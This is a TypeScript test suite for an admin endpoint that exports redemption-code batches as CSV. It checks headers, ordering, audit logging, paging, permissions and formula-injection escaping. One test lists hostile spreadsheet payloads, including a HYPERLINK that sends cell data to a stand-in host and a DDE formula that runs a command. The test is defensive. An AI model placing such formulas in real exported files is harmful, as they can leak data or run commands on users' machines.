import { newId } from '@lessor/kit'
import { beforeAll, expect, test } from 'vitest'
import { call, ownerCookie } from '../../../../test/calls.ts'
import { staffActor, testApp, type TestApp } from '../../../../test/harness.ts'
import { anAccount } from '../../people/accounts/testing.ts'
import { listAudit } from '../../core/audit/index.ts'
import { exportBatch } from './index.ts'
import { redeemCode } from './redeem-code.ts'
import { someCodes } from './testing.ts'

let app: TestApp
let cookie: string
beforeAll(async () => {
  app = await testApp()
  cookie = await ownerCookie(app)
  return () => app.stop()
})

const finance = () => app.command(staffActor('finance'))
const request = (id: string) =>
  fetch(`${app.url}/api/admin/code-batches/${id}/export`, { headers: { cookie } })

/** The fields of each line (RFC 4180); what a spreadsheet would show. */
function fieldsOf(csv: string): string[][] {
  expect(csv.endsWith('\r\n')).toBe(true)
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy
  const lines: string[][] = [[]]
  for (const [, quoted, plain = '', end] of csv.matchAll(field)) {
    lines.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain)
    if (end === '\r\n') lines.push([])
  }
  return lines.slice(0, -1)
}

const header = ['code', 'level', 'days', 'status', 'expires_at', 'used_at', 'used_by', 'note', 'value']

test('an export has every code of a batch of 5,000 once, as a file that spreadsheets read', async () => {
  const { batch } = await someCodes(finance(), 5_000, { prefix: 'BIG', note: '批量' })
  const response = await request(batch.id)
  expect(Object.fromEntries(response.headers)).toMatchObject({
    'content-type': 'text/csv; charset=UTF-8',
    'content-disposition': `attachment; filename="codes-${batch.id}.csv"`,
    'cache-control': 'private, no-store',
    'x-content-type-options': 'nosniff',
  })
  const bytes = Buffer.from(await response.arrayBuffer())
  expect(bytes.subarray(0, 3).toString('hex')).toBe('efbbbf')
  const [names, ...lines] = fieldsOf(bytes.subarray(3).toString())
  expect(names).toEqual(header)
  expect(new Set(lines.map(([code]) => code)).size).toBe(5_000)
  for (const [code, ...rest] of lines) {
    expect(code).toMatch(/^BIG(-[0-9A-Z]{5}){4}$/)
    expect(rest).toEqual(['1', '30', 'unused', batch.expiresAt.toISOString(), '', '', '批量', ''])
  }
})

test('an export has the codes as they were issued, in the order of the answer, with who used them', async () => {
  const { batch, texts } = await someCodes(finance(), 3)
  const { id } = await anAccount(app.command(staffActor('support')), { username: '-1+1' })
  const actor = { kind: 'account', id, name: '-1+1', sessionId: newId() } as const
  await redeemCode(app.command(actor), { cardCode: texts[1] ?? '' })
  const [, ...lines] = fieldsOf(await (await request(batch.id)).text())
  expect(lines.map(([code]) => code)).toEqual(texts)
  expect(lines.map(([, , , status]) => status)).toEqual(['unused', 'used', 'unused'])
  const [, used] = lines
  expect(used?.slice(5)).toEqual([app.clock.now().toISOString(), "'-1+1", '', ''])
})

test.each([
  '=HYPERLINK("http://evil.example/?"&A2,"click")',
  '+1+cmd|"/c calc"!A1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '=1,"quoted"\r\nand a second line',
])('a note that a spreadsheet would run, %j, arrives as text', async (note) => {
  const { batch } = await someCodes(finance(), 2, { note })
  const [, ...lines] = fieldsOf(await (await request(batch.id)).text())
  expect(lines.map((line) => line[7])).toEqual([`'${note}`, `'${note}`])
})

test('an export is in the audit log before its first line is out', async () => {
  const { batch } = await someCodes(finance(), 1)
  await exportBatch(finance(), { id: batch.id })
  const { items } = await listAudit(app.services.db, { subjectId: batch.id }, { limit: 10 })
  expect(items[0]).toMatchObject({ action: 'codes.exported', after: { count: 1 } })
})

test('an export reads no further ahead of its reader than one page', async () => {
  const { batch } = await someCodes(finance(), 5_000)
  const { db } = app.services
  let pages = 0
  const query: typeof db.query = (text, values, name) => {
    if (name === 'codes.codes_after') pages++
    return db.query(text, values, name)
  }
  const cmd = finance()
  const { pages: all } = await exportBatch(
    { ...cmd, services: { ...app.services, db: { ...db, query } } },
    batch,
  )
  for await (const page of all) {
    expect(page).toHaveLength(1_000)
    expect(pages).toBe(2)
    break
  }
  expect(pages).toBe(2)
})

test('an export that breaks off is not taken for a whole one', async () => {
  const { batch } = await someCodes(finance(), 1_500)
  await app.services.db.query(
    `update codes_code set sealed = '\\x00' where id = (select max(id::text)::uuid from codes_code where batch_id = $1)`,
    [batch.id],
  )
  const response = await request(batch.id)
  expect(response.status).toBe(200)
  await expect(response.text()).rejects.toThrow('terminated')
  expect(app.logged.join('')).toContain('an export broke off')
})

test('only those who may export do, and only what there is', async () => {
  const { batch } = await someCodes(finance(), 1)
  const support = app.command(staffActor('support'))
  await expect(exportBatch(support, batch)).rejects.toMatchObject({ code: 'forbidden' })
  const path = `/api/admin/code-batches/${newId()}/export`
  expect(await call(app, `GET ${path}`, { cookie })).toMatchObject({ status: 404, code: 'batch_unknown' })
  expect(await call(app, `GET ${path}`)).toMatchObject({ status: 401 })
})
